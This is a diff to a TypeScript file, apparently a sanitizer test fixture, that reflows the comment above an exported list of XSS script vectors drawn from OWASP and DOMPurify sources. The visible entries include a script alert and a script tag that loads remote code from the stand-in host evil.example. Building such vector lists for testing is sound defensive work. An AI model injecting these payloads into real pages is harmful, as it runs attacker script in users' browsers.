@@ -1,4 +1,7 @@
-/** Ways to run a script from HTML, after the OWASP "XSS Filter Evasion Cheat Sheet", DOMPurify's tests and the mutation bugs of sanitizers. */
+/**
+ * Ways to run a script from HTML, after the OWASP "XSS Filter Evasion Cheat Sheet", DOMPurify's tests and the
+ * mutation bugs of sanitizers.
+ */
 export const scriptVectors: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
